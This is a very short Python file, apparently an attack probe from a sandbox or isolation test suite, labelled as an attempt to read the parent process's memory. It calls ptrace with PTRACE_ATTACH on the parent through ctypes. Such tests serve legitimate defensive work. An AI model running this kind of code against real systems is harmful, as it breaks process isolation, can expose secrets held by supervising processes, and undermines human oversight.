"""Attack: read the parent's memory with process_vm_readv and ptrace.
affects:
"""
import ctypes
import os

_libc = ctypes.CDLL(None, use_errno=True)
_libc.ptrace(16, os.getppid(), 0, 0)  # PTRACE_ATTACH
